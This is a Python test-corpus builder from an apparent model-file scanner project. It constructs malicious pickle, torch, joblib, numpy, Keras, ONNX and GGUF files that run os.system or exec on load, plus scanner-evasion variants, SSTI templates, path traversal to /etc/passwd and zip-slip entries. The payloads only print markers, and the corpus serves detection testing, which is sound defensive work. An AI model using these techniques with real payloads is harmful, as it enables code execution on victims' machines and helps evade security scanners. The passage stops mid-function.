"""The scanner's corpus: malicious files (one per technique) and benign files from real libraries.

Used by the regression tests, the detection benchmark (benchmarks/scan) and
the examples script. Every malicious case's payload only prints a marker
(`echo PWNED-<slug>` or `print`), and `load` names the ordinary way a victim
would load it, so `test_corpus_acts.py` can prove the file really acts.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.scan._asm import (
    MARKER,
    binunicode,
    call1,
    echo,
    frame,
    glob,
    proto,
    sbu,
    stack_global,
    system_call,
)

P = pickle

LOAD_PICKLE = "import pickle,sys; pickle.load(open(sys.argv[1],'rb'))"
LOAD_PICKLE_ALL = (
    "import pickle,sys\nf=open(sys.argv[1],'rb')\n"
    "while True:\n    try: pickle.load(f)\n    except EOFError: break"
)
LOAD_TORCH = "import torch,sys; torch.load(sys.argv[1], weights_only=False)"
LOAD_JOBLIB = "import joblib,sys; joblib.load(sys.argv[1])"
LOAD_NUMPY = "import numpy,sys; numpy.load(sys.argv[1], allow_pickle=True)"
LOAD_NPZ = "import numpy,sys; d=numpy.load(sys.argv[1], allow_pickle=True); [d[k] for k in d.files]"


@dataclass(frozen=True)
class Case:
    name: str
    technique: str
    malicious: bool
    build: Callable[[Path], Path]
    load: str | None = None  # Python run with the path as argv[1]: the victim's ordinary load
    needs: tuple[str, ...] = ()  # importable modules the builder or loader needs


def _write(dest: Path, name: str, data: bytes) -> Path:
    path = dest / name
    path.write_bytes(data)
    return path


def _raw(
    name: str, filename: str, technique: str, data: Callable[[], bytes], load: str = LOAD_PICKLE
) -> Case:
    return Case(name, technique, True, lambda d: _write(d, filename, data()), load)


# --- pickle virtual-machine techniques ------------------------------------------------------


def _memo_indirection() -> bytes:
    # GLOBAL stored in the memo, popped, and fetched back much later: scanners
    # that only look at neighbouring opcodes miss the call.
    return (
        proto(2)
        + glob("os", "system")
        + P.BINPUT
        + b"\x05"
        + P.POP
        + P.EMPTY_DICT
        + P.POP
        + P.BINGET
        + b"\x05"
        + binunicode(echo("memo"))
        + P.TUPLE1
        + P.REDUCE
        + P.STOP
    )


def _stack_global_memo_names() -> bytes:
    # Protocol 4 STACK_GLOBAL whose module and name strings come out of the memo.
    return (
        proto(4)
        + sbu("os")
        + P.MEMOIZE
        + sbu("system")
        + P.MEMOIZE
        + P.POP
        + P.POP
        + P.BINGET
        + b"\x00"
        + P.BINGET
        + b"\x01"
        + P.STACK_GLOBAL
        + sbu(echo("stackglobal-memo"))
        + P.TUPLE1
        + P.REDUCE
        + P.STOP
    )


def _computed_name() -> bytes:
    # Module name produced at load time by an allowlisted call: str('os').
    return (
        proto(4)
        + stack_global("builtins", "str")
        + sbu("os")
        + P.TUPLE1
        + P.REDUCE
        + sbu("system")
        + P.STACK_GLOBAL
        + sbu(echo("computed"))
        + P.TUPLE1
        + P.REDUCE
        + P.STOP
    )


def _dotted_name() -> bytes:
    # Protocol 4 find_class resolves dotted names: logging.os.system is os.system.
    return (
        proto(4) + stack_global("logging", "os.system") + sbu(echo("dotted")) + P.TUPLE1 + P.REDUCE + P.STOP
    )


def _fix_imports() -> bytes:
    # Protocol 2 renames __builtin__ to builtins when loading (fix_imports=True).
    code = f"print('{MARKER}-fiximports')"
    return proto(2) + call1(glob("__builtin__", "eval"), binunicode(code)) + P.STOP


def _inst() -> bytes:
    # INST: protocol 0 instantiation, the class named inline.
    return P.MARK + P.STRING + f"'{echo('inst')}'\n".encode() + P.INST + b"os\nsystem\n" + P.STOP


def _obj() -> bytes:
    # OBJ: callable and arguments after one MARK.
    return P.MARK + glob("os", "system") + binunicode(echo("obj")) + P.OBJ + P.STOP


def _newobj_partial() -> bytes:
    # NEWOBJ builds functools.partial(os.system, cmd); REDUCE then calls the
    # *result*, a callable the file never names.
    return (
        proto(2)
        + glob("functools", "partial")
        + glob("os", "system")
        + binunicode(echo("newobj"))
        + P.TUPLE2
        + P.NEWOBJ
        + P.EMPTY_TUPLE
        + P.REDUCE
        + P.STOP
    )


def _newobj_ex() -> bytes:
    return (
        proto(4)
        + stack_global("functools", "partial")
        + stack_global("os", "system")
        + sbu(echo("newobjex"))
        + P.TUPLE2
        + P.EMPTY_DICT
        + P.NEWOBJ_EX
        + P.EMPTY_TUPLE
        + P.REDUCE
        + P.STOP
    )


def _eval_builtin() -> bytes:
    return proto(2) + call1(glob("builtins", "exec"), binunicode(f"print('{MARKER}-exec')")) + P.STOP


def _subprocess() -> bytes:
    cmd = P.MARK + binunicode("echo") + binunicode(f"{MARKER}-subprocess") + P.LIST
    return proto(2) + glob("subprocess", "check_call") + cmd + P.TUPLE1 + P.REDUCE + P.STOP


def _getattr_chain() -> bytes:
    # getattr(__import__('os'), 'system')(cmd): every piece a builtin.
    imp = call1(glob("builtins", "__import__"), binunicode("os"))
    get = glob("builtins", "getattr") + imp + binunicode("system") + P.TUPLE2 + P.REDUCE
    return proto(2) + get + binunicode(echo("getattr")) + P.TUPLE1 + P.REDUCE + P.STOP


def _unknown_gadget() -> bytes:
    # A gadget missing from typical denylists: a stdlib helper that execs a string.
    code = f"print('{MARKER}-gadget')"
    return (
        proto(4)
        + stack_global("numpy.testing._private.utils", "runstring")
        + sbu(code)
        + P.EMPTY_DICT
        + P.TUPLE2
        + P.REDUCE
        + P.STOP
    )


def _gadget(module: str, name: str, *args: bytes) -> Callable[[], bytes]:
    """module.name(*args) through protocol 4: for gadgets that published denylists missed."""

    def build() -> bytes:
        return proto(4) + stack_global(module, name) + P.MARK + b"".join(args) + P.TUPLE + P.REDUCE + P.STOP

    return build


def _bound_method_gadget() -> bytes:
    # code.InteractiveInterpreter().runsource(src): an instance from an
    # innocent-looking class, then one of its methods by dotted name.
    inst = stack_global("code", "InteractiveInterpreter") + P.EMPTY_TUPLE + P.REDUCE
    call = (
        stack_global("code", "InteractiveInterpreter.runsource") + inst + sbu(f"print('{MARKER}-runsource')")
    )
    return proto(4) + call + P.TUPLE2 + P.REDUCE + P.STOP


def _setstate_hijack() -> bytes:
    # BUILD sets an instance's __setstate__ to os.system; a second BUILD calls it.
    inst = glob("argparse", "Namespace") + P.EMPTY_TUPLE + P.REDUCE
    hijack = P.EMPTY_DICT + binunicode("__setstate__") + glob("os", "system") + P.SETITEM + P.BUILD
    return proto(2) + inst + hijack + binunicode(echo("setstate")) + P.BUILD + P.STOP


def _build_on_class() -> bytes:
    # BUILD with slot state on a *class*: setattr(argparse.Namespace, '__setstate__',
    # os.system) rewrites a class other code uses; the next instance's BUILD calls it.
    state = P.NONE + P.EMPTY_DICT + binunicode("__setstate__") + glob("os", "system") + P.SETITEM + P.TUPLE2
    return (
        proto(2)
        + glob("argparse", "Namespace")
        + state
        + P.BUILD
        + P.POP
        + glob("argparse", "Namespace")
        + P.EMPTY_TUPLE
        + P.REDUCE
        + binunicode(echo("buildclass"))
        + P.BUILD
        + P.STOP
    )


def _ext_code() -> bytes:
    # EXT1 names a global through copyreg's extension registry (filled by the loader's process).
    return proto(2) + P.EXT1 + b"\xf0" + binunicode(echo("ext")) + P.TUPLE1 + P.REDUCE + P.STOP


def _frame_straddle() -> bytes:
    # FRAME claims 3 bytes, but the call runs far past it: the C unpickler
    # loads it, tools that trust frame lengths see something else.
    body = call1(stack_global("os", "system"), sbu(echo("frame"))) + P.STOP
    return proto(4) + frame(body, length=3)


def _frame_hidden() -> bytes:
    # A huge declared frame swallowing the payload for parsers that skip frames.
    body = call1(stack_global("os", "system"), sbu(echo("framehuge"))) + P.STOP
    return proto(4) + frame(body, length=len(body) + 1_000_000)


def _second_pickle() -> bytes:
    # A benign pickle followed by a malicious one: loaders that call pickle.load
    # repeatedly (or scanners that stop at the first STOP) differ.
    return pickle.dumps({"weights": [1.0, 2.0]}, protocol=4) + system_call("second", proto_n=4)


def _after_malformed() -> bytes:
    # The call runs, then the stream breaks: the loader raises after the damage.
    return proto(2) + call1(glob("os", "system"), binunicode(echo("malformed"))) + b"\xff\xff garbage"


def _truncated() -> bytes:
    return proto(2) + call1(glob("os", "system"), binunicode(echo("truncated")))


def _proto0_text() -> bytes:
    return system_call("proto0", proto_n=0)


def _weird_name() -> bytes:
    # A dotted attribute path into os through a module that imports it.
    return proto(4) + stack_global("gettext", "os.system") + sbu(echo("weird")) + P.TUPLE1 + P.REDUCE + P.STOP


def _runpy() -> bytes:
    code = binunicode(f"print('{MARKER}-runpy')")
    return proto(2) + glob("runpy", "_run_code") + code + P.EMPTY_DICT + P.TUPLE2 + P.REDUCE + P.STOP


# --- containers and formats ----------------------------------------------------------------


def _torch_zip(
    data_pkl: bytes, *, top: str = "archive", bad_crc: bool = False, local_name: str | None = None
) -> bytes:
    """A torch-style zip: data.pkl, version and byteorder records, stored uncompressed."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr(f"{top}/data.pkl", data_pkl)
        z.writestr(f"{top}/byteorder", b"little")
        z.writestr(f"{top}/version", b"3\n")
        z.writestr(f"{top}/.data/serialization_id", b"1234567890")
    raw = bytearray(buf.getvalue())
    name = f"{top}/data.pkl".encode()
    if bad_crc:
        # Corrupt the CRC in both headers: PyTorch's reader does not check it.
        for sig in (b"PK\x03\x04", b"PK\x01\x02"):
            i = raw.find(sig)
            while i >= 0:
                off = 14 if sig == b"PK\x03\x04" else 16
                nlen_off = 26 if sig == b"PK\x03\x04" else 28
                fixed = 30 if sig == b"PK\x03\x04" else 46
                (nlen,) = struct.unpack_from("<H", raw, i + nlen_off)
                if bytes(raw[i + fixed : i + fixed + nlen]) == name:
                    raw[i + off : i + off + 4] = b"\xde\xad\xbe\xef"
                i = raw.find(sig, i + 4)
    if local_name is not None:
        i = raw.find(b"PK\x03\x04" + raw[4:4])
        new = local_name.encode()
        assert len(new) == len(name)
        j = raw.find(name)
        raw[j : j + len(name)] = new
    return bytes(raw)


def _torch_payload(slug: str) -> bytes:
    return system_call(slug, proto_n=2)


def _legacy_torch(slug: str) -> bytes:
    parts = [
        pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2),
        pickle.dumps(1001, protocol=2),
        pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {}}, protocol=2),
        _torch_payload(slug),
        pickle.dumps([], protocol=2),
    ]
    return b"".join(parts)


def _legacy_tar(slug: str) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in (
            ("sys_info", pickle.dumps({"protocol_version": 1001}, protocol=2)),
            ("pickle", _torch_payload(slug)),
            ("storages", pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2)),
            ("tensors", pickle.dumps(0, protocol=2)),
        ):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _zip_of(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip with fixed timestamps, so the same members give the same bytes."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as z:
        for name, data in members.items():
            z.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), data, compress_type=method)
    return buf.getvalue()


def _polyglot() -> bytes:
    # A malicious pickle with a benign-looking zip appended: zip tools see the
    # archive, pickle.load runs the pickle.
    return system_call("polyglot") + _zip_of({"archive/data.pkl": pickle.dumps({}, protocol=2)})


def _joblib_compressed(kind: str) -> Callable[[], bytes]:
    def build() -> bytes:
        payload = system_call(f"joblib-{kind}")
        if kind == "zlib":
            return zlib.compress(payload)
        if kind == "gzip":
            return gzip.compress(payload)
        if kind == "bz2":
            return bz2.compress(payload)
        if kind == "xz":
            return lzma.compress(payload, format=lzma.FORMAT_XZ)
        if kind == "lzma":
            return lzma.compress(payload, format=lzma.FORMAT_ALONE)
        import lz4.frame

        return lz4.frame.compress(payload)

    return build


def _npy_object() -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + system_call("npy")


def _tar_gz() -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        data = system_call("targz")
        info = tarfile.TarInfo("model/weights.bin")
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _seven_zip(dest: Path) -> Path:
    import py7zr

    path = dest / "model.7z"
    with py7zr.SevenZipFile(path, "w") as archive:
        archive.writestr(system_call("7z"), "model/model.pkl")
    return path


def _keras_h5(lambda_nested: bool) -> Callable[[Path], Path]:
    def build(dest: Path) -> Path:
        import h5py

        lam = {
            "class_name": "Lambda",
            "config": {
                "name": "evil",
                "function": ["YmFzZTY0IG1hcnNoYWwgY29kZQ==", None, None],
                "function_type": "lambda",
            },
        }
        dense = {"class_name": "Dense", "config": {"name": "d", "units": 1}}
        inner = {"class_name": "Sequential", "config": {"name": "inner", "layers": [dense, lam]}}
        layers = [dense, inner] if lambda_nested else [dense, lam]
        config = {"class_name": "Sequential", "config": {"name": "outer", "layers": layers}}
        path = dest / "model.h5"
        with h5py.File(path, "w") as f:
            f.attrs["model_config"] = json.dumps(config)
            f.attrs["keras_version"] = "2.15.0"
            f.create_group("model_weights")
        return path

    return build


def _keras_v3(custom: bool) -> Callable[[Path], Path]:
    def build(dest: Path) -> Path:
        if custom:
            layer = {
                "module": "os",
                "class_name": "system",
                "config": {"name": "x"},
                "registered_name": None,
            }
        else:
            layer = {
                "module": "keras.layers",
                "class_name": "Lambda",
                "registered_name": None,
                "config": {
                    "name": "evil",
                    "function": {
                        "class_name": "__lambda__",
                        "config": {"code": "lambda x: __import__('os').system('echo PWNED')"},
                    },
                },
            }
        config = {
            "module": "keras",
            "class_name": "Sequential",
            "registered_name": None,
            "config": {"name": "m", "layers": [layer]},
        }
        path = dest / "model.keras"
        path.write_bytes(
            _zip_of(
                {
                    "config.json": json.dumps(config).encode(),
                    "metadata.json": b'{"keras_version": "3.6.0"}',
                }
            )
        )
        return path

    return build


def _pb_varint(n: int) -> bytes:
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        out.append(b | (0x80 if n else 0))
        if not n:
            return bytes(out)


def _pb(field: int, payload: bytes | int) -> bytes:
    if isinstance(payload, int):
        return _pb_varint(field << 3) + _pb_varint(payload)
    return _pb_varint(field << 3 | 2) + _pb_varint(len(payload)) + payload


def _saved_model(op: str) -> Callable[[Path], Path]:
    def build(dest: Path) -> Path:
        folder = dest / "saved_model"
        folder.mkdir()
        nodes = _pb(1, _pb(1, b"filename") + _pb(2, b"Const")) + _pb(1, _pb(1, b"read") + _pb(2, op.encode()))
        graph = nodes
        meta = _pb(2, graph)
        (folder / "saved_model.pb").write_bytes(_pb(1, 1) + _pb(2, meta))
        return folder

    return build


def _onnx_model(*, location: str | None = None, domain: str = "") -> bytes:
    tensor = _pb(8, b"w")
    if location is not None:
        tensor += _pb(13, _pb(1, b"location") + _pb(2, location.encode())) + _pb(14, 1)
    node = _pb(1, b"x") + _pb(2, b"y") + _pb(4, b"Relu") + (_pb(7, domain.encode()) if domain else b"")
    graph = _pb(1, node) + _pb(2, b"g") + _pb(5, tensor)
    opset = _pb(8, _pb(1, b"") + _pb(2, 17))
    return _pb(1, 8) + _pb(2, b"pipewarden-corpus") + _pb(7, graph) + opset


_SSTI = "{% for m in messages %}{{ m['content'] }}{% endfor %}{{ ().__class__.__base__.__subclasses__() }}"


def _gguf(template: str) -> bytes:
    def s(text: str) -> bytes:
        data = text.encode()
        return struct.pack("<Q", len(data)) + data

    kv = [("general.architecture", 8, s("llama")), ("tokenizer.chat_template", 8, s(template))]
    out = b"GGUF" + struct.pack("<IQQ", 3, 0, len(kv))
    for key, vtype, value in kv:
        out += s(key) + struct.pack("<I", vtype) + value
    return out


def _safetensors_overlap() -> bytes:
    header = {
        "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
        "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]},
    }
    raw = json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + b"\0" * 12


def malicious_cases() -> list[Case]:
    """One case per technique; each must be flagged (exit 1 at the default threshold)."""
    cases = [
        _raw("reduce-os-system-p0", "model.pkl", "GLOBAL+REDUCE, protocol 0", _proto0_text),
        _raw(
            "reduce-os-system-p2",
            "model.pkl",
            "GLOBAL+REDUCE, protocol 2",
            lambda: system_call("p2"),
        ),
        _raw(
            "reduce-os-system-p4",
            "model.pkl",
            "STACK_GLOBAL+REDUCE, protocol 4",
            lambda: proto(4) + call1(stack_global("os", "system"), sbu(echo("p4"))) + P.STOP,
        ),
        _raw(
            "reduce-os-system-p5",
            "model.pkl",
            "protocol 5 with framing",
            lambda: proto(5) + frame(call1(stack_global("os", "system"), sbu(echo("p5"))) + P.STOP),
        ),
        _raw(
            "memo-indirection",
            "model.pkl",
            "global stored in the memo and called later",
            _memo_indirection,
        ),
        _raw(
            "stack-global-memo-names",
            "model.pkl",
            "STACK_GLOBAL names fetched from the memo",
            _stack_global_memo_names,
        ),
        _raw(
            "computed-name",
            "model.pkl",
            "module name computed at load time by str()",
            _computed_name,
        ),
        _raw("dotted-name", "model.pkl", "protocol-4 dotted name logging.os.system", _dotted_name),
        _raw("dotted-name-pickle", "model.pkl", "dotted name gettext.os.system", _weird_name),
        _raw(
            "fix-imports-builtin",
            "model.pkl",
            "__builtin__.eval renamed by fix_imports",
            _fix_imports,
        ),
        _raw("inst-opcode", "model.pkl", "INST opcode", _inst),
        _raw("obj-opcode", "model.pkl", "OBJ opcode", _obj),
        _raw(
            "newobj-partial",
            "model.pkl",
            "NEWOBJ functools.partial, then call of the result",
            _newobj_partial,
        ),
        _raw("newobj-ex-partial", "model.pkl", "NEWOBJ_EX functools.partial", _newobj_ex),
        _raw("exec-builtin", "model.pkl", "builtins.exec", _eval_builtin),
        _raw("subprocess", "model.pkl", "subprocess.check_call", _subprocess),
        _raw(
            "getattr-import-chain",
            "model.pkl",
            "getattr(__import__('os'), 'system')",
            _getattr_chain,
        ),
        _raw(
            "unlisted-gadget",
            "model.pkl",
            "exec gadget absent from denylists (numpy runstring)",
            _unknown_gadget,
        ),
        _raw("runpy-run-code", "model.pkl", "runpy._run_code", _runpy),
        _raw(
            "gadget-cprofile-run",
            "model.pkl",
            "cProfile.run executes a string",
            _gadget("cProfile", "run", sbu(f"print('{MARKER}-cprofile')")),
        ),
        _raw(
            "gadget-profile-run",
            "model.pkl",
            "profile.run executes a string",
            _gadget("profile", "run", sbu(f"print('{MARKER}-profile')")),
        ),
        _raw(
            "gadget-pydoc-pipepager",
            "model.pkl",
            "pydoc.pipepager runs a shell command",
            _gadget("pydoc", "pipepager", sbu("x"), sbu(echo("pipepager"))),
        ),
        _raw(
            "gadget-bdb-run",
            "model.pkl",
            "bdb.Bdb.run on a fresh debugger",
            lambda: (
                proto(4)
                + stack_global("bdb", "Bdb.run")
                + stack_global("bdb", "Bdb")
                + P.EMPTY_TUPLE
                + P.REDUCE
                + sbu(f"print('{MARKER}-bdb')")
                + P.TUPLE2
                + P.REDUCE
                + P.STOP
            ),
        ),
        _raw(
            "gadget-bound-method",
            "model.pkl",
            "code.InteractiveInterpreter.runsource by dotted name",
            _bound_method_gadget,
        ),
        _raw(
            "setstate-hijack",
            "model.pkl",
            "BUILD installs __setstate__ = os.system",
            _setstate_hijack,
        ),
        _raw("build-on-class", "model.pkl", "BUILD rewrites a class attribute", _build_on_class),
        Case(
            "ext-code",
            "EXT1 extension code",
            True,
            lambda d: _write(d, "model.pkl", _ext_code()),
            "import copyreg,pickle,sys; copyreg.add_extension('os','system',0xf0); "
            "pickle.load(open(sys.argv[1],'rb'))",
        ),
        _raw("frame-straddle", "model.pkl", "opcodes straddle a short FRAME", _frame_straddle),
        _raw(
            "frame-oversized",
            "model.joblib",
            "FRAME longer than the file (pure-Python unpickler reads it)",
            _frame_hidden,
            LOAD_JOBLIB,
        ),
        _raw(
            "second-pickle",
            "model.pkl",
            "benign pickle then malicious pickle",
            _second_pickle,
            LOAD_PICKLE_ALL,
        ),
        _raw("call-then-garbage", "model.pkl", "call, then malformed bytes", _after_malformed),
        _raw("truncated-after-call", "model.pkl", "call, then truncated stream", _truncated),
        _raw("pickle-zip-polyglot", "model.bin", "pickle with a zip appended", _polyglot),
        _raw(
            "no-extension",
            "weights",
            "pickle named without an extension",
            lambda: system_call("noext"),
        ),
        _raw(
            "misleading-extension",
            "model.safetensors",
            "pickle named .safetensors",
            lambda: system_call("misnamed"),
        ),
        Case(
            "torch-zip",
            "data.pkl in a torch zip",
            True,
            lambda d: _write(d, "model.pt", _torch_zip(_torch_payload("torchzip"))),
            LOAD_TORCH,
            ("torch",),
        ),
        Case(
            "torch-zip-odd-folder",
            "torch zip with an unusual top-level folder",
            True,
            lambda d: _write(d, "model.pt", _torch_zip(_torch_payload("torchfolder"), top="x9")),
            LOAD_TORCH,
            ("torch",),
        ),
        Case(
            "torch-zip-bad-crc",
            "torch zip with a wrong CRC (zipfile refuses, torch loads)",
            True,
            lambda d: _write(d, "model.pt", _torch_zip(_torch_payload("torchcrc"), bad_crc=True)),
            LOAD_TORCH,
            ("torch",),
        ),
        Case(
            "torch-zip-local-name",
            "local header names another file than the directory",
            True,
            lambda d: _write(
                d,
                "model.pt",
                _torch_zip(_torch_payload("torchname"), local_name="archive/data.pkX"),
            ),
            LOAD_TORCH,
            ("torch",),
        ),
        Case(
            "torch-legacy",
            "legacy torch.save stream",
            True,
            lambda d: _write(d, "model.pt", _legacy_torch("legacy")),
            LOAD_TORCH,
            ("torch",),
        ),
        Case(
            "torch-legacy-tar",
            "legacy torch tar format",
            True,
            lambda d: _write(d, "model.tar", _legacy_tar("tar")),
            LOAD_TORCH,
            ("torch",),
        ),
        _raw(
            "joblib-plain",
            "model.joblib",
            "joblib (uncompressed)",
            lambda: system_call("joblib"),
            LOAD_JOBLIB,
        ),
        *[
            _raw(
                f"joblib-{kind}",
                f"model.joblib.{kind}",
                f"joblib compressed with {kind}",
                _joblib_compressed(kind),
                LOAD_JOBLIB,
            )
            for kind in ("zlib", "gzip", "bz2", "xz", "lzma", "lz4")
        ],
        Case(
            "npy-object-array",
            "numpy object array",
            True,
            lambda d: _write(d, "array.npy", _npy_object()),
            LOAD_NUMPY,
        ),
        Case(
            "npz-object-array",
            "npz holding an object array",
            True,
            lambda d: _write(d, "arrays.npz", _zip_of({"a.npy": _npy_object()})),
            LOAD_NPZ,
        ),
        Case(
            "nested-zip",
            "pickle in a zip in a zip",
            True,
            lambda d: _write(
                d,
                "bundle.zip",
                _zip_of({"inner.zip": _zip_of({"m/model.pkl": system_call("nested")})}),
            ),
        ),
        Case("tar-gz", "pickle in a .tar.gz", True, lambda d: _write(d, "bundle.tar.gz", _tar_gz())),
        Case("seven-zip", "pickle in a 7z archive", True, _seven_zip, None, ("py7zr",)),
        Case(
            "keras-h5-lambda",
            "Keras .h5 with a Lambda layer",
            True,
            _keras_h5(False),
            None,
            ("h5py",),
        ),
        Case(
            "keras-h5-nested-lambda",
            "Lambda inside a nested model",
            True,
            _keras_h5(True),
            None,
            ("h5py",),
        ),
        Case("keras-v3-lambda", ".keras with a Lambda layer", True, _keras_v3(False)),
        Case("keras-v3-custom-module", ".keras naming a class in module os", True, _keras_v3(True)),
        Case("savedmodel-readfile", "SavedModel with a ReadFile op", True, _saved_model("ReadFile")),
        Case(
            "savedmodel-pyfunc",
            "SavedModel with an EagerPyFunc op",
            True,
            _saved_model("EagerPyFunc"),
        ),
        Case(
            "onnx-external-traversal",
            "ONNX external data ../../etc/passwd",
            True,
            lambda d: _write(d, "model.onnx", _onnx_model(location="../../../etc/passwd")),
        ),
        Case(
            "onnx-custom-domain",
            "ONNX node in a custom operator domain",
            True,
            lambda d: _write(d, "model.onnx", _onnx_model(domain="com.evil.ops")),
        ),
        Case(
            "gguf-ssti",
            "GGUF chat template reaching __subclasses__",
            True,
            lambda d: _write(d, "model.gguf", _gguf(_SSTI)),
        ),
        Case(
            "tokenizer-config-ssti",
            "tokenizer_config.json chat template SSTI",
            True,
            lambda d: _write(d, "tokenizer_config.json", json.dumps({"chat_template": _SSTI}).encode()),
        ),
        Case(
            "safetensors-overlap",
            "safetensors header with overlapping tensors",
            True,
            lambda d: _write(d, "model.safetensors", _safetensors_overlap()),
        ),
        Case(
            "zip-slip",
            "zip member escaping the folder",
            True,
            lambda d: _write(d, "bundle.zip", _zip_of({"../../evil.pkl": pickle.dumps(1)})),
        ),
    ]
    return cases


# --- benign files written by the real libraries ---------------------------------------------


def _plain_data() -> object:
    import collections
    import datetime
    import decimal

    return {
        "dict": {"a": 1},
        "set": {1, 2},
        "frozenset": frozenset({3}),
        "datetime": datetime.datetime(2024, 1, 2, 3, 4),
        "date": datetime.date(2024, 1, 2),
        "delta": datetime.timedelta(seconds=5),
        "decimal": decimal.Decimal("1.25"),
        "od": collections.OrderedDict(a=1),
        "counter": collections.Counter("abca"),
        "dd": collections.defaultdict(list, {"k": [1]}),
        "complex": 1 + 2j,
        "bytes": b"\x00\x01" * 40,
        "bytearray": bytearray(b"xyz"),
        "tuple": (1, "two", 3.0, None, True),
        "big": 2**100,
        "neg": -5,
    }


def _benign_pickle(protocol: int) -> Case:
    return Case(
        f"plain-data-p{protocol}",
        f"plain Python data, protocol {protocol}",
        False,
        lambda d: _write(d, "data.pkl", pickle.dumps(_plain_data(), protocol=protocol)),
    )


def _torch_case(name: str, what: str, make: Callable[[], object], legacy: bool = False) -> Case:
    def build(dest: Path) -> Path:
        import torch

        torch.manual_seed(0)
        path = dest / "model.pt"
        torch.save(make(), path, _use_new_zipfile_serialization=not legacy)
        return path

    return Case(name, what, False, build, None, ("torch",))


def _torch_state_dict() -> object:
    import torch

    return torch.nn.Linear(4, 2).state_dict()


def _torch_sequential() -> object:
    import torch

    return torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))


def _torch_checkpoint() -> object:
    import torch

    model = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))
    opt = torch.optim.Adam(model.parameters())
    model(torch.ones(1, 4)).sum().backward()
    opt.step()
    return {"epoch": 3, "model": model.state_dict(), "optimizer": opt.state_dict(), "loss": 0.25}


def _sklearn_pipeline() -> object:
    import numpy as np
    from sklearn.compose import ColumnTransformer
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import OneHotEncoder, StandardScaler

    rng = np.random.default_rng(0)
    import pandas as pd

    x = pd.DataFrame({"a": rng.normal(size=60), "b": rng.normal(size=60), "c": rng.choice(["x", "y"], 60)})
    y = (x["a"] > 0).astype(int)
    pre = ColumnTransformer([("num", StandardScaler(), ["a", "b"]), ("cat", OneHotEncoder(), ["c"])])
    return Pipeline([("pre", pre), ("rf", RandomForestClassifier(n_estimators=5, random_state=0))]).fit(x, y)


def _sklearn_case(name: str, *, use_joblib: bool, compress: int | str = 0) -> Case:
    def build(dest: Path) -> Path:
        model = _sklearn_pipeline()
        if use_joblib:
            import joblib

            path = dest / "model.joblib"
            joblib.dump(model, path, compress=compress)
            return path
        path = dest / "model.pkl"
        path.write_bytes(pickle.dumps(model))
        return path

    what = f"scikit-learn pipeline via {'joblib' if use_joblib else 'pickle'}" + (
        f", compress={compress}" if compress else ""
    )
    return Case(name, what, False, build, None, ("sklearn", "pandas", "joblib"))


def _pandas_case(dest: Path) -> Path:
    import numpy as np
    import pandas as pd

    df = pd.DataFrame(
        {
            "i": np.arange(10),
            "f": np.linspace(0, 1, 10),
            "s": list("abcdefghij"),
            "cat": pd.Categorical(list("xyxyxyxyxy")),
            "t": pd.date_range("2024-01-01", periods=10, tz="UTC"),
        }
    )
    path = dest / "frame.pkl"
    df.to_pickle(path)
    return path


def _numpy_case(dest: Path) -> Path:
    import numpy as np

    path = dest / "array.npy"
    np.save(path, np.arange(12, dtype=np.float32).reshape(3, 4))
    return path


def _npz_case(dest: Path) -> Path:
    import numpy as np

    path = dest / "arrays.npz"
    np.savez_compressed(path, a=np.arange(5), b=np.eye(3))
    return path


def _lightgbm_case(dest: Path) -> Path:
    import lightgbm as lgb
    import numpy as np

    rng = np.random.default_rng(0)
    x = rng.normal(size=(200, 4))
    model = lgb.LGBMClassifier(n_estimators=5, verbose=-1).fit(x, (x[:, 0] > 0).astype(int))
    path = dest / "lgbm.pkl"
    path.write_bytes(pickle.dumps(model))
    return path


def _safetensors_case(dest: Path) -> Path:
    import numpy as np
    from safetensors.numpy import save_file

    path = dest / "model.safetensors"
    save_file({"w": np.ones((3, 3), dtype=np.float32), "b": np.zeros(3, dtype=np.float16)}, str(path))
    return path


def _onnx_case(dest: Path) -> Path:
    import onnx
    from onnx import TensorProto, helper

    node = helper.make_node("Relu", ["x"], ["y"])
    graph = helper.make_graph(
        [node],
        "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])],
        [helper.make_tensor("w", TensorProto.FLOAT, [1], [1.0])],
    )
    path = dest / "model.onnx"
    onnx.save(helper.make_model(graph), str(path))
    return path


_ORDINARY_TEMPLATE = (
    "{% for message in messages %}{% if message['role'] == 'user' %}"
    "{{ '<|user|>' + message['content'].strip() }}"
    "{% elif message['role'] == 'assistant' %}{{ '<|assistant|>' + message['content'] }}{% endif %}"
    "{% if loop.last and add_generation_prompt %}{{ '<|assistant|>' }}{% endif %}{% endfor %}"
)


def _keras_h5_benign(dest: Path) -> Path:
    import h5py

    config = {
        "class_name": "Sequential",
        "config": {
            "name": "m",
